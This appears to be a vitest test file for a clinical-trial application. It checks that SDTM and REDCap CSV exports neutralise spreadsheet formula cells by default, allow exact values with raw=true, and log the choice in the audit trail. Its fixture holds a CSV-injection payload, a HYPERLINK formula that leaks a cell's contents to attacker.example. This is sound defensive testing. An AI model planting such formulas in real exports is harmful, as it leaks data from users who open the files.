// CSV downloads are opened in spreadsheets: a text cell that a spreadsheet would run as a formula is
// written with a leading ' unless the caller asks for the exact values (raw), and the export's audit
// event says which was sent.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createTestApp, describeEachDatabase, type TestApp } from '../support/test-app.ts';
import { as, createTrialUsers, type TrialUsers } from '../support/trial-users.ts';
import { buildDemoTrial, type DemoTrial } from './demo-trial.ts';

const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Paracetamol")';
const SUM = '+SUM(1,2)';

describeEachDatabase('CSV cells a spreadsheet would run', (kind) => {
  let t: TestApp;
  let users: TrialUsers;
  let demo: DemoTrial;

  beforeAll(async () => {
    t = await createTestApp(kind);
    users = await createTrialUsers(t);
    demo = await buildDemoTrial(t, users);
    const saved = await as(t.app, users.coordinator).put(
      `/api/v1/participants/${demo.enrolledId}/visits/screening/forms/conmeds?instance=2`,
      {
        version: 0,
        entries: {
          medication: { value: FORMULA },
          category: { value: 'antiviral' },
          indication: { value: SUM },
          route: { value: 'oral' },
          startDate: { value: demo.screeningDate },
          ongoing: { value: true },
        },
      },
    );
    expect(saved.statusCode, saved.body).toBe(200);
  });
  afterAll(async () => {
    await t?.close();
  });

  const download = (url: string) => as(t.app, users.dataManager).get(url);
  const lastExportEvent = () =>
    t.database.read((db) =>
      db
        .selectFrom('audit_event')
        .select('new_value')
        .where('action', '=', 'export.run')
        .orderBy('seq', 'desc')
        .limit(1)
        .executeTakeFirstOrThrow(),
    );
  /** The CM rows by column name. */
  const cmRows = (body: string) => parse(body, { columns: true }) as Array<Record<string, string>>;

  it('neutralises formula text in an SDTM CSV by default, and says so in the audit trail', async () => {
    const response = await download('/api/v1/exports/sdtm/cm?format=csv');
    expect(response.statusCode, response.body).toBe(200);
    const row = cmRows(response.body).find((candidate) => candidate.CMTRT?.includes('HYPERLINK'));
    expect(row?.CMTRT).toBe(`'${FORMULA}`);
    expect(row?.CMINDC).toBe(`'${SUM}`);
    // No cell of the file starts a formula.
    for (const cells of parse(response.body) as string[][]) {
      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
    }
    expect((await lastExportEvent()).new_value).toMatchObject({ kind: 'sdtm-csv', csvCells: 'spreadsheet' });
  });

  it('gives the exact values with raw=true, recorded as raw', async () => {
    const response = await download('/api/v1/exports/sdtm/CM?format=csv&raw=true');
    expect(response.statusCode, response.body).toBe(200);
    const row = cmRows(response.body).find((candidate) => candidate.CMTRT?.includes('HYPERLINK'));
    expect(row?.CMTRT).toBe(FORMULA);
    expect(row?.CMINDC).toBe(SUM);
    expect((await lastExportEvent()).new_value).toMatchObject({ kind: 'sdtm-csv', csvCells: 'raw' });
  });

  it('does the same for the REDCap data file, and refuses a raw value that is not true or false', async () => {
    const safe = await download('/api/v1/exports/redcap?part=data');
    expect(safe.statusCode, safe.body).toBe(200);
    expect(safe.body).toContain(`"'=HYPERLINK(""http://attacker.example`);
    expect(safe.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect((await lastExportEvent()).new_value).toMatchObject({
      kind: 'redcap-data',
      csvCells: 'spreadsheet',
    });
    const raw = await download('/api/v1/exports/redcap?part=data&raw=true');
    expect(raw.statusCode, raw.body).toBe(200);
    expect(raw.body).toMatch(/(^|,)"=HYPERLINK\(""http:\/\/attacker\.example/m);
    expect((await lastExportEvent()).new_value).toMatchObject({ kind: 'redcap-data', csvCells: 'raw' });
    const bad = await download('/api/v1/exports/redcap?part=data&raw=yes');
    expect(bad.statusCode).toBe(400);
  });

  it('leaves XPT alone: a transport file is no spreadsheet', async () => {
    const response = await download('/api/v1/exports/sdtm/cm?format=xpt');
    expect(response.statusCode).toBe(200);
    expect(response.rawPayload.includes(Buffer.from(FORMULA.slice(0, 40)))).toBe(true);
    expect((await lastExportEvent()).new_value).not.toHaveProperty('csvCells');
  });
});
